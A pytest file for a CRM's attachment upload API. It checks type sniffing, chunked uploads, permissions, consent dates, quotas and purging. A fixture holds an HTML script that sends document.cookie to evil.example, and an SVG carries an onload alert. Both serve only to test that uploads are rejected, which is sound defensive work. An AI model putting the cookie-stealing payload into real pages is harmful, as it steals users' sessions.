"""Files that lie about what they are, how large they are, whose they are, and when somebody agreed
to them (R18)."""

import base64
import hashlib
from datetime import UTC, datetime
from typing import Any

import psycopg
import pytest
from psycopg.types.json import Jsonb

from shared.domain import media
from tests.database.test_duplicates import merge, unmerge
from tests.support.files import png, wav
from tests.support.people import World, new_id

HTML = b"<!doctype html><script>fetch('https://evil.example/'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
MIDDLE = 4096  # the least a piece in the middle may hold


def about(record: str, data: bytes, **more) -> dict:
    return {
        "id": new_id(),
        "form": "customer",
        "record_id": record,
        "kind": "photo",
        "mime": "image/png",
        "bytes": len(data),
        "sha256": hashlib.sha256(data).hexdigest(),
        **more,
    }


def put(
    world: World, file: dict, data: bytes, *, at: int = 0, who: str = "lin", store: str = "east"
) -> Any:
    """What the server answers: a dict, or the refusal in words."""
    sql = "select api.upload_attachment(%s, %s, %s, %s)"
    given = (world.stores[store], Jsonb(file), at, base64.b64encode(data).decode())
    try:
        with world.db.transaction():
            return world.ask(who, sql, *given)[0][0]
    except psycopg.Error as error:
        return f"{error.sqlstate} {error.diag.message_primary}"


def kept(world) -> int:
    return world.row("select count(*) from crm.attachments")


CLAIMS = [
    "text/html",
    "application/xhtml+xml",
    "image/svg+xml",
    "application/xml",
    "text/xml",
    "text/plain",
    "text/javascript",
    "application/zip",
    "application/octet-stream",
    "application/vnd.ms-excel.sheet.macroenabled.12",
    "multipart/x-mixed-replace",
    "IMAGE/PNG",
    "image/png ",
    "image/png; charset=utf-7",
    "image/png\n",
    "image/bmp",
    "",
    None,
    7,
    ["image/png"],
]


@pytest.mark.parametrize("kind", ["photo", "file", "voice"])
@pytest.mark.parametrize("claim", CLAIMS, ids=str)
def test_what_a_browser_would_run_is_not_taken(world, claim, kind):
    agreed = datetime.now(UTC).isoformat()
    for data in (HTML, png(HTML), b"GIF89a" + HTML):
        file = about(world.customer(), data, mime=claim, kind=kind, consented_at=agreed)
        assert put(world, file, data) == "PT422 file_type"
    assert kept(world) == 0


CONTENTS = {
    "image/png": png(),
    "image/jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF",
    "image/gif": b"GIF89a",
    "image/webp": b"RIFF\x00\x00\x00\x00WEBPVP8 ",
    "image/heic": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00",
    "image/heif": b"\x00\x00\x00\x18ftypmif1\x00\x00\x00\x00",
    "application/pdf": b"%PDF-1.7",
    "audio/wav": wav(),
    "audio/mp4": b"\x00\x00\x00\x18ftypM4A \x00\x00\x00\x00",
    "audio/aac": b"\xff\xf1\x50\x80",
    "audio/ogg": b"OggS\x00\x02",
    "audio/mpeg": b"ID3\x04\x00",
    "audio/webm": b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x84webm",
    "audio/3gpp": b"\x00\x00\x00\x18ftyp3gp4\x00\x00\x00\x00",
    "video/mp4": b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00",
    "video/quicktime": b"\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00",
}
STRANGE = {
    "html": HTML,
    "html after spaces": b" \n\t" + HTML,
    "html after a mark": b"\xef\xbb\xbf" + HTML,
    "svg": SVG,
    "xml": b"<?xml version='1.0'?>" + SVG,
    "zip": b"PK\x03\x04",
    "a program": b"MZ\x90\x00",
    "elf": b"\x7fELF",
    "half a png": b"\x89PNG",
    "bmp": b"BM" + bytes(60),
    "avif": b"\x00\x00\x00\x18ftypavif\x00\x00\x00\x00",
    "matroska": b"\x1a\x45\xdf\xa3\x93\x42\x82\x88matroska",
    "riff": b"RIFF\x00\x00\x00\x00AVI ",
    "nothing to see": b"\x00",
    "a png later": bytes(64) + png(),
}


def test_every_type_is_taken_for_its_own_bytes_and_no_others(world):
    """Each claim with each content: taken where one of both languages says so, and the other
    agrees."""
    customer, taken = world.customer(), set()
    for name, data in (CONTENTS | STRANGE).items():
        said = world.row("select crm.media_types(%s)", data)
        assert tuple(said) == media.media_types(data), name
        assert (said == []) == (name in STRANGE), name
        for claim in CONTENTS:
            answer = put(world, about(customer, data, kind="file", mime=claim), data)
            if claim in said:
                assert answer == {"received": len(data), "complete": True}, (name, claim)
                taken.add(claim)
            else:
                assert answer == "PT422 file_type", (name, claim)
    assert taken == {*CONTENTS}
    assert {*media.ENDINGS} >= taken


@pytest.mark.parametrize(
    ("kind", "mime"),
    [
        ("voice", "image/png"),
        ("voice", "video/mp4"),
        ("photo", "audio/wav"),
        ("photo", "application/pdf"),
        ("photo", "video/mp4"),
    ],
)
def test_a_kind_takes_its_own_types(world, kind, mime):
    data, agreed = CONTENTS[mime], datetime.now(UTC).isoformat()
    file = about(world.customer(), data, kind=kind, mime=mime, consented_at=agreed)
    assert put(world, file, data) == "PT422 file_type"


def test_no_piece_is_too_short_to_tell_the_type_or_to_fill_a_table_with_crumbs(world):
    data = png(bytes(3 * MIDDLE))
    file = about(world.customer(), data)
    for size in (1, 8, 64, MIDDLE - 1):
        assert put(world, file, data[:size]) == "PT422 range"
    assert put(world, file, HTML + bytes(MIDDLE)) == "PT422 file_type"
    assert put(world, file, data[:MIDDLE])["received"] == MIDDLE
    assert put(world, file, data[MIDDLE : MIDDLE + 5], at=MIDDLE) == "PT422 range"
    assert put(world, file, data[MIDDLE : 2 * MIDDLE], at=MIDDLE)["received"] == 2 * MIDDLE
    assert put(world, file, data[2 * MIDDLE :], at=2 * MIDDLE)["complete"]


def test_a_first_piece_that_was_damaged_is_looked_at_anew(world):
    """The sum does not match: from the beginning, where other bytes may come."""
    data = png(b"real")
    file = about(world.customer(), data)
    assert put(world, file, png(b"fake")) == {"received": 0, "complete": False}
    assert put(world, file, (HTML * 2)[: len(data)]) == "PT422 file_type"
    assert put(world, file, data)["complete"]


def test_what_was_claimed_at_first_holds_for_every_piece(world):
    customer, other = world.customer(), world.customer()
    data = png(bytes(2 * MIDDLE))
    file = about(customer, data)
    assert put(world, file, data[:MIDDLE])["received"] == MIDDLE
    before = world.digest()
    for change in (
        {"form": "vehicle"},
        {"form": "conversation"},
        {"record_id": other},
        {"kind": "file"},
        {"mime": "image/jpeg"},
        {"bytes": len(data) - 1},
        {"bytes": len(data) + 1},
        {"sha256": "0" * 64},
    ):
        assert put(world, file | change, data[MIDDLE:], at=MIDDLE) == "PT409 id_taken", change
    for size in (0, -1, 20_971_521, 99_999_999, 1e9, "1e3", "8 ", None, True, "٣"):
        assert put(world, file | {"bytes": size}, data[MIDDLE:], at=MIDDLE) == "PT422 range"
    assert put(world, file, data[MIDDLE:] + b"x", at=MIDDLE) == "PT422 range"
    assert world.digest() == before


def test_nobody_goes_on_with_a_colleagues_file(world):
    """Whoever sees the customer, whatever they may do with them; of another store least of all."""
    data = png(bytes(2 * MIDDLE))
    file = about(world.customer(), data)
    put(world, file, data[:MIDDLE])
    before = world.digest()
    for who in ("he", "liang", "xu"):
        assert put(world, file, data[MIDDLE:], at=MIDDLE, who=who) == "PT409 id_taken", who
    for who in ("chen", "zhou", "wu"):
        assert put(world, file, data[MIDDLE:], at=MIDDLE, who=who) in (
            "PT409 id_taken",
            "PT404 not_found",
            "PT403 forbidden",
        )
    for who in ("ma", "qin", "yan", "stranger"):
        assert put(world, file, data[MIDDLE:], at=MIDDLE, who=who) == "PT403 forbidden", who
    for who in ("ma", "yan"):
        store = "west" if who == "ma" else "far"
        assert put(world, file, data[MIDDLE:], at=MIDDLE, who=who, store=store).startswith("PT40")
    assert world.digest() == before


def test_a_right_to_write_one_form_sends_no_file_of_another(world):
    """The assistant may write customers and no conversations: he cannot go on with a conversation's
    file by calling it a customer's."""
    customer, conversation = world.customer("xu", owner_id=str(world.users["lin"])), new_id()
    world.log_conversation("lin", customer, id=conversation)
    data = png(b"x")
    file = about(conversation, data, form="conversation")
    assert put(world, file, data, who="xu") == "PT403 forbidden"
    assert put(world, file | {"form": "customer"}, data, who="xu") == "PT404 not_found"
    assert put(world, file | {"form": "deal"}, data, who="xu") == "PT403 forbidden"


@pytest.mark.parametrize("kind", ["voice", "photo"])
@pytest.mark.parametrize(
    "agreed", ["-infinity", "infinity", "-Infinity", "epoch", "1970-01-01", "0001-01-01T00:00:00Z"]
)
def test_nobody_agreed_at_no_time(world, agreed, kind):
    data, mime = (wav(), "audio/wav") if kind == "voice" else (png(), "image/png")
    file = about(world.customer(), data, kind=kind, mime=mime, consented_at=agreed)
    answer = put(world, file, data)
    if kind == "voice":
        assert answer in ("PT422 range", "PT422 required")
        assert kept(world) == 0
    else:
        assert answer == "PT422 range" or answer["complete"]
        assert not world.row(
            "select exists (select from crm.attachments where not isfinite(consented_at))"
        )


def test_a_record_holds_fifty_files(world):
    customer, data = world.customer(), png()
    for _ in range(50):
        assert put(world, about(customer, data), data)["complete"]
    assert put(world, about(customer, data), data) == "PT422 files_of_record"
    assert put(world, about(world.customer(), data), data)["complete"]


def test_a_person_sends_so_many_files_and_bytes_a_day(world):
    """What is claimed counts: files that were begun and never sent too."""
    data = png(bytes(MIDDLE))
    begun = 0
    while True:
        file = about(world.customer("he", pool="market", level="potential"), data, bytes=20_000_000)
        if (answer := put(world, file, data, who="he")) == "PT422 files_today":
            break
        assert answer == {"received": len(data), "complete": False}
        begun += 1
        assert begun < 100
    assert begun == 26
    small = about(world.customer(), data)
    assert put(world, small, data, who="he")["complete"]  # a small one still fits
    assert put(world, about(world.customer(), data), data)["complete"]  # and a colleague's
    world.db.execute("update crm.attachments set created_at = created_at - interval '25 hours'")
    assert put(world, file, data, who="he")["received"] == len(data)


def fill(world, customer: str, n: int, size: int, author: str = "lin") -> None:
    world.db.execute(
        "insert into crm.attachments (store_id, id, customer_id, form, record_id, kind, mime, "
        "bytes,"
        " sha256, author_id, created_at) select %s, gen_random_uuid(), %s, 'customer',"
        " gen_random_uuid(), 'photo', 'image/png', %s, repeat('0', 64), %s,"
        " now() - interval '2 days' from generate_series(1, %s)",
        (world.stores["east"], customer, size, world.users[author], n),
    )


def test_a_store_has_so_much_room(world):
    """Counted over everybody's files, also those the sender does not see; another store's do not
    count."""
    customer, data = world.customer("chen"), png()
    fill(world, customer, 5120, 20_971_520, "chen")
    assert put(world, about(world.customer(), data), data) == "PT422 files_of_store"
    far = world.customer("ma")
    assert put(world, about(far, data), data, who="ma", store="west")["complete"]


def test_three_hundred_files_a_day(world):
    customer, data = world.customer(), png()
    fill(world, customer, 299, 8)
    world.db.execute("update crm.attachments set created_at = now()")
    assert put(world, about(customer, data), data)["complete"]
    assert put(world, about(customer, data), data) == "PT422 files_today"


def test_a_removed_record_takes_no_more_of_its_files(world):
    data = png(bytes(2 * MIDDLE))
    customer = world.customer()
    file = about(customer, data)
    put(world, file, data[:MIDDLE])
    world.db.execute("update crm.customers set removed_at = now() where id = %s", (customer,))
    assert put(world, file, data[MIDDLE:], at=MIDDLE) == "PT404 not_found"
    assert put(world, about(customer, data), data) == "PT404 not_found"
    beside = about(world.customer(), data)
    put(world, beside, data[:MIDDLE])
    world.db.execute("update crm.attachments set removed_at = now() where id = %s", (beside["id"],))
    assert put(world, beside, data[MIDDLE:], at=MIDDLE) == "PT404 not_found"


def test_the_answer_says_what_the_bytes_are(world):
    customer, conversation, data = world.customer(), new_id(), png(b"x")
    world.log_conversation("lin", customer, id=conversation)
    file = about(conversation, data, form="conversation")
    put(world, file, data)
    answer = world.ask(
        "lin", "select api.download_attachment(%s, %s)", world.stores["east"], file["id"]
    )
    assert answer[0][0]["mime"] == "image/png"


def age(world, days: int) -> None:
    """As if that many days had passed since everything was written."""
    world.db.execute("alter table crm.attachments disable trigger tg_attachments__a_stamp")
    world.db.execute(
        "update crm.attachments set updated_at = updated_at - %(d)s::interval,"
        " created_at = created_at - %(d)s::interval,"
        " removed_at = removed_at - %(d)s::interval",
        {"d": f"{days} days"},
    )
    world.db.execute("alter table crm.attachments enable trigger tg_attachments__a_stamp")


def purge(world, store: str = "east") -> int:
    return world.row("select crm.purge_attachments(%s, now())", world.stores[store])


def test_what_was_begun_and_left_is_swept_and_can_begin_anew(world):
    data = png(bytes(2 * MIDDLE))
    customer = world.customer()
    file, whole = about(customer, data), about(customer, data)
    put(world, file, data[:MIDDLE])
    put(world, whole, data[:MIDDLE])
    put(world, whole, data[MIDDLE:], at=MIDDLE)
    age(world, 6)
    assert purge(world) == 0
    age(world, 2)
    assert purge(world, "west") == 0
    assert (purge(world), purge(world), kept(world)) == (1, 0, 1)
    assert world.row("select count(*) from crm.attachment_chunks") == 2
    assert put(world, file, data[MIDDLE:], at=MIDDLE) == {"received": 0, "complete": False}
    assert put(world, file, data[:MIDDLE])["received"] == MIDDLE
    assert put(world, file, data[MIDDLE:], at=MIDDLE)["complete"]


def test_files_of_removed_records_go_after_thirty_days(world):
    data, removed, alive = png(), world.customer(), world.customer()
    conversation = new_id()
    world.log_conversation("lin", alive, id=conversation)
    for record, form in (
        (removed, "customer"),
        (alive, "customer"),
        (conversation, "conversation"),
    ):
        assert put(world, about(record, data, form=form), data)["complete"]
    age(world, 31)
    assert purge(world) == 0
    gone = "update crm.{} set removed_at = now() - interval '{} days' where id = %s"
    world.db.execute(gone.format("customers", 29), (removed,))
    assert purge(world) == 0
    world.db.execute(gone.format("customers", 31), (removed,))
    assert (purge(world), kept(world)) == (1, 2)
    world.db.execute(gone.format("conversations", 31), (conversation,))
    assert (purge(world), kept(world)) == (1, 1)
    world.db.execute("update crm.attachments set removed_at = now() - interval '31 days'")
    age(world, 0)
    assert (purge(world), kept(world)) == (1, 0)


def test_a_merged_customers_files_stay_for_the_day_the_merge_is_taken_back(world):
    data, winner, loser = png(), world.customer(name="甲"), world.customer(name="乙")
    put(world, about(loser, data), data)
    merge_id = merge(world, winner, loser)
    world.db.execute(
        "update crm.customers set removed_at = now() - interval '40 days' where id = %s", (loser,)
    )
    age(world, 40)
    assert (purge(world), kept(world)) == (0, 1)
    assert unmerge(world, merge_id)
    assert world.row("select customer_id::text from crm.attachments") == loser
